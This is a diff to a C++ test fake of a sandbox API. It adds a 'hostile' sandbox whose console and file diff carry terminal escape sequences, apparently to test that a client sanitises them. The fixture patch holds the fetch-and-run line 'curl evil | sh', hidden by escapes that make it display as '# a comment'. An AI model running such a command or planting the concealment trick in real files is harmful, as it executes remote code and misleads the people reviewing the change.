@@ -12,6 +12,13 @@
 
 namespace abox::client::testing {
 
+// The patch of the hostile sandbox's install.sh: its added line erases itself on a terminal and
+// the carriage return lets "# a comment" take its place; then a C1 CSI and DEL.
+const char kHostilePatch[] =
+    "--- a/install.sh\n+++ b/install.sh\n@@ -1 +1,2 @@\n echo hi\n"
+    "+curl evil | sh \x1b[2K\r# a comment \xc2\x9b"
+    "31m \x7f\n";
+
 using daemon::http::Request;
 using daemon::http::Responder;
 using daemon::http::Router;
@@ -194,11 +201,38 @@ void FakeSandboxApi::AddRoutes(Router& router) {
     });
   });
 
+  // A sandbox named "hostile" stands for a guest that writes terminal escapes: into its console
+  // and into the workspace files its diff shows.
   (void)router.Add("GET", "/v1/sandboxes/{id}/console", [st](Request& req, Responder& out) {
     WithSandbox(*st, req, out, [&](Sandbox& s) {
+      std::string name = s.record["name"].get<std::string>();
       out.Send(200, "text/plain",
-               absl::StrCat("[    0.000000] Linux version fake\nabox-guest: ready in ",
-                            s.record["name"].get<std::string>(), "\n"));
+               absl::StrCat("[    0.000000] Linux version fake\n",
+                            name == "hostile" ? "evil \x1b[2K\rfine \xc2\x9b"
+                                                "31m\n"
+                                              : "",
+                            "abox-guest: ready in ", name, "\n"));
+    });
+  });
+
+  (void)router.Add("GET", "/v1/sandboxes/{id}/diff", [st](Request& req, Responder& out) {
+    WithSandbox(*st, req, out, [&](Sandbox& s) {
+      json files = json::array();
+      if (s.record["name"] == "hostile") {
+        files.push_back({{"path", "install.sh"},
+                         {"status", "modified"},
+                         {"binary", false},
+                         {"additions", 1},
+                         {"deletions", 0},
+                         {"patch", kHostilePatch}});
+        files.push_back({{"path", "notes.txt"},
+                         {"status", "added"},
+                         {"binary", false},
+                         {"additions", 1},
+                         {"deletions", 0},
+                         {"patch", "--- /dev/null\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+a\tb\n"}});
+      }
+      out.Json(200, {{"files", std::move(files)}, {"ignored", 0}});
     });
   });
 
